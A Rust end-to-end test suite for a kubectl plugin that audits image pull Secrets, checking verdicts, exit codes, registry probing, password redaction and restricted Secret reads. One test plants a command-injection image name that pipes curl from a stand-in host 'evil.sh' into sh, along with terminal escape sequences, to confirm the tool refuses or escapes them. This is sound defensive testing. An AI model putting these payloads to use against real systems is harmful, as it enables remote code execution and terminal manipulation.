//! `list`, `show` and `check` on the real control plane: every verdict, exit codes, the
//! registry probe, and no password in any output unless --reveal.

use serde_json::{Value, json};

use crate::harness::{E2e, Registry, text};

fn pull_secret(e2e: &E2e, ns: &str, name: &str, server: &str, password: &str) {
    let out = e2e.create_explicit(name, server, "robot", password, &["-n", ns]);
    assert!(out.status.success(), "{}", text(&out.stderr));
}

/// A dockerconfigjson Secret written directly, bypassing our writer.
fn raw_secret(e2e: &E2e, ns: &str, name: &str, payload: &str) {
    use base64::Engine;
    let encoded = base64::engine::general_purpose::STANDARD.encode(payload);
    e2e.kubectl_apply(
        &json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/dockerconfigjson",
                "metadata": {"name": name, "namespace": ns}, "data": {".dockerconfigjson": encoded}})
        .to_string(),
    );
}

fn container(image: &str) -> Value {
    json!([{"name": "app", "image": image}])
}

/// `check TARGET -o json` → (exit code, verdict of the first image or SA secret).
fn verdict(e2e: &E2e, ns: &str, target: &str, extra: &[&str]) -> (i32, Value) {
    let mut args = vec!["check", target, "-n", ns, "-o", "json"];
    args.extend_from_slice(extra);
    let out = e2e.run(&args);
    let parsed: Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", text(&out.stderr)));
    let item = parsed["items"][0].clone();
    let first = if item["images"].as_array().is_some_and(|a| !a.is_empty()) {
        item["images"][0].clone()
    } else {
        item["secrets"][0].clone()
    };
    (out.status.code().unwrap(), first)
}

#[test]
#[ignore = "needs the real control plane: tests/e2e/run.sh"]
fn every_verdict_with_its_exit_code() {
    let e2e = E2e::new();
    let ns = e2e.namespace("verdicts");
    pull_secret(&e2e, &ns, "quay-cred", "quay.io", "pw");
    pull_secret(&e2e, &ns, "ghcr-cred", "ghcr.io", "pw");
    raw_secret(
        &e2e,
        &ns,
        "broken",
        r#"{"auths":{"quay.io":{"auth":"bm9jb2xvbg=="}}}"#,
    );
    raw_secret(
        &e2e,
        &ns,
        "token-only",
        r#"{"auths":{"ghcr.io":{"identitytoken":"refresh-token-value"}}}"#,
    );
    e2e.kubectl_apply(&format!(
        "apiVersion: v1\nkind: ServiceAccount\nmetadata: {{name: builder, namespace: {ns}}}\nimagePullSecrets: [{{name: quay-cred}}]\n"
    ));
    e2e.kubectl_ok(&["create", "serviceaccount", "late", "-n", &ns]);

    e2e.deployment(&ns, "healthy", json!({"imagePullSecrets": [{"name": "quay-cred"}], "containers": container("quay.io/team/ok:1")}));
    e2e.deployment(
        &ns,
        "public",
        json!({"containers": container("registry.example.com/team/app:1")}),
    );
    e2e.deployment(
        &ns,
        "denied",
        json!({"containers": container("registry.example.com/team/denied:1")}),
    );
    e2e.deployment(
        &ns,
        "own-list",
        json!({"serviceAccountName": "builder", "imagePullSecrets": [{"name": "ghcr-cred"}],
                                           "containers": container("quay.io/team/own:1")}),
    );
    e2e.deployment(&ns, "malformed", json!({"imagePullSecrets": [{"name": "broken"}], "containers": container("quay.io/team/m:1")}));
    e2e.deployment(&ns, "token", json!({"imagePullSecrets": [{"name": "token-only"}], "containers": container("ghcr.io/org/t:1")}));
    e2e.deployment(&ns, "missing", json!({"imagePullSecrets": [{"name": "ghost"}], "containers": container("quay.io/team/x:1")}));
    e2e.deployment(
        &ns,
        "unreferenced",
        json!({"containers": container("ghcr.io/org/u:1")}),
    );
    e2e.deployment(
        &ns,
        "stale",
        json!({"serviceAccountName": "late", "containers": container("quay.io/team/stale:1")}),
    );

    // The kubelet's report of a refused pull, on the denied Deployment's pod.
    let denied_pod = e2e.wait_for_pod(&ns, "denied");
    e2e.pull_failure_event(
        &ns,
        &denied_pod,
        "registry.example.com/team/denied:1",
        "rpc error: code = Unknown desc = failed to resolve reference: pull access denied, repository does not exist or may require authorization: authorization failed",
    );
    // A pod created before its ServiceAccount gained the Secret.
    e2e.wait_for_pod(&ns, "stale");
    e2e.regcred_ok(&["attach", "quay-cred", "sa/late", "-n", &ns]);

    let cases = [
        ("deployment/healthy", "OK", 0),
        ("deployment/public", "ANONYMOUS", 0),
        ("deployment/denied", "NO-CREDENTIAL", 1),
        ("deployment/own-list", "SA-SECRETS-IGNORED", 1),
        ("deployment/malformed", "SECRET-MALFORMED", 1),
        ("deployment/token", "IDENTITY-TOKEN-ONLY", 1),
        ("deployment/missing", "SECRET-MISSING", 1),
        ("deployment/unreferenced", "NOT-ATTACHED", 1),
        ("deployment/stale", "POD-PREDATES-SA", 1),
        ("sa/builder", "OK", 0),
    ];
    for (target, expected, code) in cases {
        let (exit, first) = verdict(&e2e, &ns, target, &[]);
        let label = first["verdict"]
            .as_str()
            .or(first["status"].as_str())
            .unwrap_or("")
            .to_string();
        assert_eq!(label, expected, "{target}: {first}");
        assert_eq!(exit, code, "{target}");
        if expected != "OK" {
            assert!(first["fix"].is_object(), "{target} has a fix: {first}");
        }
    }

    let out = e2e.run(&["check", "deployment/denied", "-n", &ns]);
    let stdout = text(&out.stdout);
    assert!(stdout.contains("NO-CREDENTIAL"), "{stdout}");
    assert!(stdout.contains(&format!("fix: kubectl regcred create regcred --server registry.example.com -n {ns} --attach deployment/denied")), "{stdout}");
    assert!(
        stdout.contains(&format!("event Failed on pod/{denied_pod}")),
        "{stdout}"
    );

    let out = e2e.run(&["check", "deployment/stale", "-n", &ns]);
    assert!(
        text(&out.stdout).contains(&format!(
            "fix: kubectl rollout restart deployment/stale -n {ns}"
        )),
        "{}",
        text(&out.stdout)
    );

    // The whole namespace: some problems, so exit 1; a healthy-only namespace exits 0.
    assert_eq!(e2e.run(&["check", "-n", &ns]).status.code(), Some(1));
    let clean = e2e.namespace("clean");
    pull_secret(&e2e, &clean, "quay-cred", "quay.io", "pw");
    e2e.deployment(&clean, "fine", json!({"imagePullSecrets": [{"name": "quay-cred"}], "containers": container("quay.io/team/ok:1")}));
    let out = e2e.run(&["check", "--namespaces", &clean]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
}

#[test]
#[ignore = "needs the real control plane: tests/e2e/run.sh"]
fn probe_asks_the_registry_only_when_told() {
    let e2e = E2e::new();
    let ns = e2e.namespace("probe");
    let private = Registry::start(Some(("robot", "registry-pw")));
    let open = Registry::start(None);
    let private_image = format!("{}/team/app:1", private.host);
    let open_image = format!("{}/team/app:1", open.host);
    e2e.deployment(
        &ns,
        "private",
        json!({"containers": container(&private_image)}),
    );
    e2e.deployment(&ns, "open", json!({"containers": container(&open_image)}));

    let (exit, first) = verdict(&e2e, &ns, "deployment/private", &[]);
    assert_eq!(
        (exit, first["verdict"].as_str()),
        (0, Some("ANONYMOUS")),
        "without --probe, no registry call"
    );

    let (exit, first) = verdict(&e2e, &ns, "deployment/private", &["--probe"]);
    assert_eq!(first["verdict"], "NO-CREDENTIAL", "{first}");
    assert_eq!(exit, 1);
    assert!(
        first["probe"].as_str().unwrap().contains("refused"),
        "{first}"
    );

    // An open registry does not refuse; the verdict stays a warning.
    let (exit, first) = verdict(&e2e, &ns, "deployment/open", &["--probe"]);
    assert_eq!(
        (exit, first["verdict"].as_str()),
        (0, Some("ANONYMOUS")),
        "{first}"
    );
    assert!(first["probe"].is_string(), "{first}");

    // With credentials attached, the probe asks with them: OK once the image exists.
    private.push(&e2e, &private_image, "robot", "registry-pw");
    let out = e2e.create_explicit(
        "local",
        &private.host,
        "robot",
        "registry-pw",
        &["-n", &ns, "--attach", "deploy/private"],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let (exit, first) = verdict(&e2e, &ns, "deployment/private", &["--probe"]);
    assert_eq!(
        (exit, first["verdict"].as_str()),
        (0, Some("OK")),
        "{first}"
    );
}

#[test]
#[ignore = "needs the real control plane: tests/e2e/run.sh"]
fn no_password_in_list_show_or_check_unless_revealed() {
    let e2e = E2e::new();
    let ns = e2e.namespace("secrecy");
    let password = "TopSecretPw-4242";
    pull_secret(&e2e, &ns, "regcred", "quay.io", password);
    e2e.deployment(&ns, "web", json!({"imagePullSecrets": [{"name": "regcred"}], "containers": container("quay.io/team/web:1")}));
    let auth = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(format!("robot:{password}"))
    };
    let commands: Vec<Vec<&str>> = vec![
        vec!["list", "-n", &ns],
        vec!["list", "-n", &ns, "-o", "wide"],
        vec!["list", "-n", &ns, "-o", "json"],
        vec!["list", "-A", "-o", "yaml"],
        vec!["show", "regcred", "-n", &ns],
        vec!["show", "regcred", "-n", &ns, "-o", "json"],
        vec!["check", "-n", &ns],
        vec!["check", "deploy/web", "-n", &ns, "-o", "json"],
    ];
    for args in commands {
        let out = e2e.run(&args);
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
        assert!(
            !all.contains(password) && !all.contains(&auth),
            "{args:?} leaked: {all}"
        );
    }
    let out = e2e.run(&["list", "-n", &ns, "-o", "wide"]);
    let table = text(&out.stdout);
    assert!(
        table.starts_with("NAME      REGISTRIES   MANAGED   USED-BY   AGE"),
        "{table}"
    );
    assert!(
        table.contains("regcred   quay.io      yes       1")
            && table.contains("deployment.apps/web"),
        "{table}"
    );
    let out = e2e.run(&["show", "regcred", "-n", &ns]);
    assert!(
        text(&out.stdout).contains("********"),
        "{}",
        text(&out.stdout)
    );

    let out = e2e.run(&["show", "regcred", "-n", &ns, "--reveal"]);
    let revealed: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(revealed["auths"]["quay.io"]["password"], password);
    assert!(
        !text(&out.stderr).contains("warning"),
        "no warning into a pipe"
    );

    // On a terminal (a pty from `script`), a warning comes first, in colour unless NO_COLOR.
    let binary = assert_cmd::cargo::cargo_bin("kubectl-regcred");
    let on_terminal = |no_color: bool| {
        let mut script = std::process::Command::new("script");
        e2e.scrub(&mut script);
        script.env_remove("NO_COLOR");
        if no_color {
            script.env("NO_COLOR", "1");
        }
        let out = script
            .args([
                "-qec",
                &format!("{} show regcred -n {ns} --reveal", binary.display()),
                "/dev/null",
            ])
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        text(&out.stdout)
    };
    for (no_color, label) in [(true, "warning:"), (false, "\x1b[1;33mwarning\x1b[0m:")] {
        let screen = on_terminal(no_color);
        let warning = screen
            .find(&format!(
                "{label} printing registry passwords in clear text"
            ))
            .expect(&screen);
        assert!(
            warning < screen.find(password).expect(&screen),
            "{screen:?}"
        );
    }
}

#[test]
#[ignore = "needs the real control plane: tests/e2e/run.sh"]
fn list_across_namespaces_and_managed_filter() {
    let e2e = E2e::new();
    let a = e2e.namespace("lista");
    let b = e2e.namespace("listb");
    pull_secret(&e2e, &a, "ours", "quay.io", "pw");
    e2e.kubectl_ok(&[
        "create",
        "secret",
        "docker-registry",
        "theirs",
        "-n",
        &b,
        "--docker-server=ghcr.io",
        "--docker-username=u",
        "--docker-password=p",
    ]);
    let namespaces = format!("{a},{b}");
    let out = e2e.run(&["list", "--namespaces", &namespaces]);
    let table = text(&out.stdout);
    assert!(table.starts_with("NAMESPACE"), "{table}");
    assert!(
        table.contains("ours") && table.contains("theirs"),
        "{table}"
    );
    let out = e2e.run(&[
        "list",
        "--namespaces",
        &namespaces,
        "--managed",
        "-o",
        "name",
    ]);
    // Other tests may run `create -A` concurrently, so only our two Secrets are asserted on.
    let names = text(&out.stdout);
    assert!(names.lines().any(|l| l == "secret/ours"), "{names}");
    assert!(!names.contains("secret/theirs"), "{names}");
}

/// Text from the cluster is untrusted: an image that smuggles shell syntax into the registry
/// host is INVALID-IMAGE with no command built from it, and escape sequences in images and
/// Event messages reach the terminal escaped. `-o json` keeps them exact.
#[test]
#[ignore = "needs the real control plane: tests/e2e/run.sh"]
fn hostile_images_and_events_are_shown_not_obeyed() {
    let e2e = E2e::new();
    let ns = e2e.namespace("hostile");
    let injection = "[$(curl${IFS}-s${IFS}evil.sh|sh)]/app:1";
    let escapes = "quay.io/team/app:1\u{1b}]0;pwned\u{7}\u{1b}[2J";
    e2e.deployment(&ns, "inject", json!({"containers": container(injection)}));
    e2e.deployment(&ns, "escape", json!({"containers": container(escapes)}));
    let pod = json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "victim", "namespace": ns},
        "spec": {"containers": container("quay.io/team/victim:1")}});
    e2e.kubectl_apply(&pod.to_string());
    let event = json!({"apiVersion": "v1", "kind": "Event",
        "metadata": {"name": "victim.hostile", "namespace": ns},
        "involvedObject": {"kind": "Pod", "name": "victim", "namespace": ns},
        "reason": "Failed", "type": "Warning",
        "message": "Failed to pull image \"quay.io/team/victim:1\": \u{1b}[2J\u{1b}]0;owned\u{7} unauthorized"});
    e2e.kubectl_apply(&event.to_string());

    let out = e2e.run(&["check", "-n", &ns]);
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert!(
        !stdout.contains('\u{1b}') && !stderr.contains('\u{1b}'),
        "raw escape reached the terminal:\n{stdout:?}\n{stderr:?}"
    );
    assert!(stdout.contains(r"\u{1b}]0;pwned\u{7}\u{1b}[2J"), "{stdout}");
    assert!(
        stdout.contains(r"\u{1b}[2J\u{1b}]0;owned\u{7} unauthorized"),
        "{stdout}"
    );
    let inject_line = stdout.lines().find(|l| l.contains("curl")).expect(&stdout);
    assert!(inject_line.contains("INVALID-IMAGE"), "{stdout}");
    assert!(!stdout.contains("--server [$("), "{stdout}");

    let out = e2e.run(&["check", "-n", &ns, "-o", "json"]);
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let images: Vec<&str> = report["items"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|item| item["images"].as_array().unwrap())
        .filter_map(|image| image["image"].as_str())
        .collect();
    assert!(
        images.contains(&escapes),
        "JSON keeps the exact text: {images:?}"
    );
}

/// `list`, `check` and `attach --auto` ask the API server only for the two pull Secret
/// types: other people's TLS keys and tokens never leave the cluster. The API server's audit
/// log shows every Secret list our binary made.
#[test]
#[ignore = "needs the real control plane: tests/e2e/run.sh"]
fn only_pull_secret_types_are_read() {
    let e2e = E2e::new();
    let ns = e2e.namespace("onlypull");
    pull_secret(&e2e, &ns, "quay-cred", "quay.io", "pw");
    e2e.kubectl_ok(&[
        "create",
        "secret",
        "generic",
        "tls-like",
        "-n",
        &ns,
        "--from-literal=key=PRIVATE-CANARY",
    ]);
    e2e.create_deployment(&ns, "web", "quay.io/team/web:1");
    for args in [
        vec!["list", "-n", &ns],
        vec!["list", "-A"],
        vec!["attach", "--auto", "deployment/web", "-n", &ns],
        vec!["check", "-n", &ns],
    ] {
        let out = e2e.regcred_ok(&args);
        assert!(!text(&out.stdout).contains("tls-like"), "{args:?}");
    }
    let audit = std::fs::read_to_string(
        std::env::var("REGCRED_E2E_AUDIT_LOG").expect("the e2e runner exports the audit log"),
    )
    .unwrap();
    let ours: Vec<Value> = audit
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter(|event| event["verb"] == "list" && event["objectRef"]["resource"] == "secrets")
        .filter(|event| {
            !event["userAgent"]
                .as_str()
                .unwrap_or_default()
                .starts_with("kubectl")
        })
        .filter(|event| {
            let uri = event["requestURI"].as_str().unwrap_or_default();
            // Reads of one named Secret (`create`, `attach NAME`, other tests running now)
            // fetch just that Secret, whatever its type.
            (uri.starts_with(&format!("/api/v1/namespaces/{ns}/"))
                || uri.starts_with("/api/v1/secrets"))
                && !uri.contains("metadata.name")
        })
        .collect();
    assert!(!ours.is_empty(), "no Secret list of ours in the audit log");
    for event in &ours {
        let uri = event["requestURI"].as_str().unwrap();
        assert!(
            uri.contains("fieldSelector=type%3Dkubernetes.io%2Fdocker")
                || uri.contains("fieldSelector=type=kubernetes.io/docker"),
            "a Secret list without a pull-secret type selector: {uri}"
        );
    }
}

/// `fix:` lines of `check`'s human output, as printed (after a run's `CONTEXT: ` prefix).
pub(crate) fn fix_lines(stdout: &str) -> Vec<String> {
    stdout
        .lines()
        .filter_map(|line| {
            let line = line.trim_start();
            let line = match line.split_once(": ") {
                Some((context, rest)) if !context.contains(' ') && context != "fix" => rest,
                _ => line,
            };
            line.trim_start().strip_prefix("fix: ")
        })
        .map(str::to_string)
        .collect()
}

/// Every failure `check` can name that a local login can fix, in one namespace and a second
/// context; every printed fix line is run through `bash -c` exactly as printed, and then
/// `check` says OK (the bare Pod once it is recreated, as its advice says). docs/check.md.
#[test]
#[ignore = "needs two real control planes: tests/e2e/run.sh"]
fn every_printed_fix_works_when_pasted() {
    let e2e = crate::contexts::fleet();
    let ns = e2e.namespace("pasted");
    e2e.kubectl_ok(&["--context", "c2", "create", "namespace", &ns]);
    e2e.docker_config(
        r#"{"auths":{"quay.io":{"auth":"cm9ib3Q6cHc="},"ghcr.io":{"auth":"Z2g6cHc="},"registry.e2e.example.com":{"auth":"ZTJlOnB3"}}}"#,
    );
    let denied = "unauthorized: authentication required";
    // Our Secret for quay.io alone.
    e2e.regcred_ok(&["create", "regcred", "--server", "quay.io", "-n", &ns]);
    // SECRET-MISSING: a template names a Secret that is not there.
    e2e.deployment(
        &ns,
        "missing",
        serde_json::json!({
        "imagePullSecrets": [{"name": "absent"}],
        "containers": [{"name": "app", "image": "quay.io/team/missing:1"}]}),
    );
    // NO-CREDENTIAL: regcred lacks ghcr.io, and the kubelet was refused.
    e2e.deployment(
        &ns,
        "gh",
        serde_json::json!({
        "imagePullSecrets": [{"name": "regcred"}],
        "containers": [{"name": "app", "image": "ghcr.io/team/gh:1"}]}),
    );
    // NOT-ATTACHED: regcred would match, but nothing references it.
    e2e.deployment(
        &ns,
        "loose",
        serde_json::json!({"containers": [{"name": "app", "image": "quay.io/team/loose:1"}]}),
    );
    // No Pods: with no kubelet here, a rollout never replaces old ones, and check would (rightly)
    // report Pods made before their ServiceAccount changed.
    e2e.kubectl_ok(&["scale", "deployment", "loose", "--replicas=0", "-n", &ns]);
    // SECRET-MISSING through its ServiceAccount, which lists a Secret that does not exist.
    e2e.deployment(
        &ns,
        "plain",
        serde_json::json!({
        "serviceAccountName": "builder",
        "containers": [{"name": "app", "image": "quay.io/team/plain:1"}]}),
    );
    // A ServiceAccount listing a Secret that does not exist.
    e2e.kubectl_apply(
        &serde_json::json!({"apiVersion": "v1", "kind": "ServiceAccount",
        "metadata": {"name": "builder", "namespace": ns},
        "imagePullSecrets": [{"name": "ghost"}]})
        .to_string(),
    );
    // A bare Pod from a third registry, refused.
    e2e.kubectl_apply(
        &serde_json::json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "bare", "namespace": ns},
        "spec": {"containers": [{"name": "app", "image": "registry.e2e.example.com/team/bare:1"}]}})
        .to_string(),
    );
    e2e.pull_failure_event(&ns, "bare", "registry.e2e.example.com/team/bare:1", denied);
    let gh_pod = e2e.wait_for_pod(&ns, "gh");
    e2e.pull_failure_event(&ns, &gh_pod, "ghcr.io/team/gh:1", denied);
    // In the second context, a Deployment with no credential at all, refused.
    let c2 = |args: &[&str]| {
        let mut all = vec!["--context", "c2"];
        all.extend_from_slice(args);
        e2e.kubectl_ok(&all)
    };
    c2(&[
        "create",
        "deployment",
        "other",
        "-n",
        &ns,
        "--image=quay.io/team/other:1",
    ]);
    let other_pod = (0..120)
        .find_map(|_| {
            let out = c2(&["get", "pods", "-n", &ns, "-l", "app=other", "-o", "name"]);
            let name = out
                .lines()
                .next()
                .map(|l| l.trim_start_matches("pod/").to_string());
            if name.is_none() {
                std::thread::sleep(std::time::Duration::from_millis(250));
            }
            name
        })
        .expect("a pod for deployment other in c2");
    let uid = c2(&[
        "get",
        "pod",
        &other_pod,
        "-n",
        &ns,
        "-o",
        "jsonpath={.metadata.uid}",
    ]);
    let event = serde_json::json!({"apiVersion": "v1", "kind": "Event",
        "metadata": {"name": format!("{other_pod}.pull"), "namespace": ns},
        "involvedObject": {"apiVersion": "v1", "kind": "Pod", "name": other_pod, "namespace": ns, "uid": uid},
        "reason": "Failed", "type": "Warning", "count": 1,
        "message": format!("Failed to pull image \"quay.io/team/other:1\": {denied}"),
        "source": {"component": "kubelet"}, "firstTimestamp": "2026-01-01T00:00:00Z", "lastTimestamp": "2026-01-01T00:00:00Z"});
    let mut apply = std::process::Command::new("kubectl");
    e2e.scrub(&mut apply);
    let mut child = apply
        .args(["--context", "c2", "apply", "-f", "-"])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(event.to_string().as_bytes())
        .unwrap();
    assert!(child.wait().unwrap().success());

    // What check prints: top-level objects in both contexts, the ServiceAccount, the owned Pod.
    let runs: Vec<Vec<String>> = vec![
        vec!["check", "-n", &ns, "--context", "c1,c2"],
        vec!["check", "serviceaccount/builder", "-n", &ns],
        vec!["check", &format!("pod/{gh_pod}"), "-n", &ns],
    ]
    .into_iter()
    .map(|args| args.into_iter().map(str::to_string).collect())
    .collect();
    let mut fixes = Vec::new();
    for args in &runs {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = e2e.run(&args);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{args:?} finds problems: {}",
            text(&out.stdout)
        );
        fixes.extend(fix_lines(&text(&out.stdout)));
    }
    fixes.dedup();
    let expected_fixes = [
        "create absent",
        "create regcred --server ghcr.io",
        "attach regcred deployment/loose",
        "create ghost",
        "--attach serviceaccount/default",
        "--context c2",
    ];
    for expected in expected_fixes {
        assert!(
            fixes.iter().any(|f| f.contains(expected)),
            "no fix with {expected:?}: {fixes:#?}"
        );
    }
    assert!(
        !fixes.iter().any(|f| f.contains("pod/")),
        "a Pod is never a fix's target: {fixes:#?}"
    );

    // Each fix, pasted into a shell as printed.
    for fix in &fixes {
        let out = e2e
            .plugin_shell()
            .args(["-c", fix])
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "pasted {fix:?}:\n{}{}",
            text(&out.stdout),
            text(&out.stderr)
        );
    }
    // The fixes added up: regcred holds both of its registries.
    let payload = e2e.payload(&ns, "regcred");
    assert!(
        payload["auths"]["quay.io"].is_object() && payload["auths"]["ghcr.io"].is_object(),
        "{payload}"
    );

    // The bare Pod gets its ServiceAccount's Secrets only when it is created again.
    e2e.kubectl_ok(&["delete", "pod", "bare", "-n", &ns, "--wait=false"]);
    for _ in 0..120 {
        if !e2e
            .kubectl(&["get", "pod", "bare", "-n", &ns])
            .status
            .success()
        {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(250));
    }
    e2e.kubectl_apply(
        &serde_json::json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "bare", "namespace": ns},
        "spec": {"containers": [{"name": "app", "image": "registry.e2e.example.com/team/bare:1"}]}})
        .to_string(),
    );
    // The owned Pods were made before the fixes: the new templates roll out new ones, and
    // check judges templates and top-level objects.
    for args in [
        vec!["check", "-n", ns.as_str(), "--context", "c1,c2"],
        vec!["check", "serviceaccount/builder", "-n", ns.as_str()],
    ] {
        let out = e2e.run(&args);
        assert!(
            out.status.success(),
            "{args:?} after the fixes:\n{}{}",
            text(&out.stdout),
            text(&out.stderr)
        );
    }
}

/// An image volume (KEP-4639) is pulled with the Pod's pull Secrets like a container image:
/// `check` judges it under its volume's name, `attach --auto` attaches what it needs, and a
/// ServiceAccount's Secret reaches it (docs/check.md, "Image volumes").
#[test]
#[ignore = "needs the real control plane: tests/e2e/run.sh"]
fn image_volumes_are_checked_and_attached_like_containers() {
    let e2e = E2e::new();
    let ns = e2e.namespace("imgvol");
    pull_secret(&e2e, &ns, "quay-cred", "quay.io", "pw");
    pull_secret(&e2e, &ns, "ghcr-cred", "ghcr.io", "pw");
    e2e.deployment(
        &ns,
        "web",
        json!({
            "containers": [{"name": "app", "image": "quay.io/team/app:1",
                            "volumeMounts": [{"name": "models", "mountPath": "/models"}]}],
            "volumes": [{"name": "models", "image": {"reference": "ghcr.io/team/models:v2"}}],
        }),
    );
    let report = |e2e: &E2e| -> Value {
        let out = e2e.run(&["check", "deployment/web", "-n", &ns, "-o", "json"]);
        serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", text(&out.stderr)))
    };
    let before = report(&e2e);
    let images = before["items"][0]["images"].as_array().unwrap();
    assert_eq!(images.len(), 2, "{before}");
    assert_eq!(images[1]["image"], "ghcr.io/team/models:v2");
    assert_eq!(images[1]["volume"], "models");
    assert_eq!(images[1]["verdict"], "NOT-ATTACHED", "{before}");
    let out = e2e.run(&["check", "deployment/web", "-n", &ns]);
    assert!(
        text(&out.stdout).contains("ghcr.io/team/models:v2 (volume/models)"),
        "{}",
        text(&out.stdout)
    );
    e2e.regcred_ok(&["attach", "--auto", "deployment/web", "-n", &ns]);
    let after = report(&e2e);
    let images = after["items"][0]["images"].as_array().unwrap();
    assert_eq!(images[1]["verdict"], "OK", "{after}");
    assert_eq!(images[1]["secret"], "ghcr-cred", "{after}");
    assert_eq!(
        e2e.get_json(&["deployment", "web", "-n", &ns])["spec"]["template"]["spec"]["imagePullSecrets"],
        json!([{"name": "quay-cred"}, {"name": "ghcr-cred"}])
    );
}

/// `--credential-provider-config`: the node's providers serve what no pull Secret does, and a
/// token provider needs its ServiceAccount annotations (docs/check.md, "Node credential
/// providers").
#[test]
#[ignore = "needs the real control plane: tests/e2e/run.sh"]
fn node_credential_providers_and_their_serviceaccount_annotations() {
    let e2e = E2e::new();
    let ns = e2e.namespace("providers");
    let config = e2e.home.path().join("credential-providers.yaml");
    std::fs::write(
        &config,
        r#"apiVersion: kubelet.config.k8s.io/v1
kind: CredentialProviderConfig
providers:
  - name: ecr-credential-provider
    matchImages: ["*.dkr.ecr.*.amazonaws.com"]
    defaultCacheDuration: 12h
    apiVersion: credentialprovider.kubelet.k8s.io/v1
  - name: acr-credential-provider
    matchImages: ["*.azurecr.io"]
    defaultCacheDuration: 10m
    apiVersion: credentialprovider.kubelet.k8s.io/v1
    tokenAttributes:
      serviceAccountTokenAudience: api://AzureADTokenExchange
      cacheType: ServiceAccount
      requireServiceAccount: true
      requiredServiceAccountAnnotationKeys: [azure.workload.identity/client-id]
"#,
    )
    .unwrap();
    let config = config.to_string_lossy().into_owned();
    e2e.kubectl_ok(&["create", "serviceaccount", "builder", "-n", &ns]);
    e2e.deployment(
        &ns,
        "ecr",
        json!({"containers": container("123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/app:1")}),
    );
    e2e.deployment(
        &ns,
        "acr",
        json!({"serviceAccountName": "builder", "containers": container("team.azurecr.io/app:1")}),
    );
    let with_config = ["--credential-provider-config", config.as_str()];
    let (code, ecr) = verdict(&e2e, &ns, "deployment/ecr", &with_config);
    assert_eq!(
        (code, ecr["verdict"].as_str()),
        (0, Some("NODE-PROVIDER")),
        "{ecr}"
    );
    assert_eq!(ecr["providers"], json!(["ecr-credential-provider"]));
    // Without the config, the same image has no credential at all.
    let (_, plain) = verdict(&e2e, &ns, "deployment/ecr", &[]);
    assert_eq!(plain["verdict"], "ANONYMOUS", "{plain}");
    let (code, acr) = verdict(&e2e, &ns, "deployment/acr", &with_config);
    assert_eq!(
        (code, acr["verdict"].as_str()),
        (1, Some("SA-NOT-ANNOTATED")),
        "{acr}"
    );
    assert_eq!(acr["keys"], json!(["azure.workload.identity/client-id"]));
    let advice = acr["fix"]["advice"].as_str().unwrap().to_string();
    assert!(
        advice.contains(&format!(
            "kubectl annotate serviceaccount builder azure.workload.identity/client-id=VALUE -n {ns}"
        )),
        "{advice}"
    );
    // Annotated as the advice says (with a real value): the plugin is called.
    e2e.kubectl_ok(&[
        "annotate",
        "serviceaccount",
        "builder",
        "-n",
        &ns,
        "azure.workload.identity/client-id=00000000-0000-0000-0000-000000000000",
    ]);
    let (code, acr) = verdict(&e2e, &ns, "deployment/acr", &with_config);
    assert_eq!(
        (code, acr["verdict"].as_str()),
        (0, Some("NODE-PROVIDER")),
        "{acr}"
    );
    // attach --auto leaves to the provider what it serves, and attaches the rest.
    pull_secret(&e2e, &ns, "quay-cred", "quay.io", "pw");
    pull_secret(
        &e2e,
        &ns,
        "ecr-cred",
        "123456789012.dkr.ecr.eu-west-1.amazonaws.com",
        "pw",
    );
    e2e.deployment(
        &ns,
        "mixed",
        json!({"containers": [
            {"name": "a", "image": "quay.io/team/a:1"},
            {"name": "b", "image": "123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/b:1"},
        ]}),
    );
    let out = e2e.run(&[
        "attach",
        "--auto",
        "deployment/mixed",
        "-n",
        &ns,
        "--credential-provider-config",
        &config,
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr)
            .contains("is left to the node credential provider ecr-credential-provider"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(
        e2e.get_json(&["deployment", "mixed", "-n", &ns])["spec"]["template"]["spec"]["imagePullSecrets"],
        json!([{"name": "quay-cred"}])
    );
    // A config the kubelet would refuse: an error naming the file, before anything is read.
    let broken = e2e.home.path().join("broken.yaml");
    std::fs::write(
        &broken,
        "apiVersion: kubelet.config.k8s.io/v1\nkind: CredentialProviderConfig\nproviders:\n  - name: x\n    matchImages: ['a.io']\n",
    )
    .unwrap();
    let broken = broken.to_string_lossy().into_owned();
    let out = e2e.run(&["check", "-n", &ns, "--credential-provider-config", &broken]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = text(&out.stderr);
    assert!(
        stderr.starts_with("error: ")
            && stderr.contains("broken.yaml")
            && stderr.contains("apiVersion is required"),
        "{stderr}"
    );
}
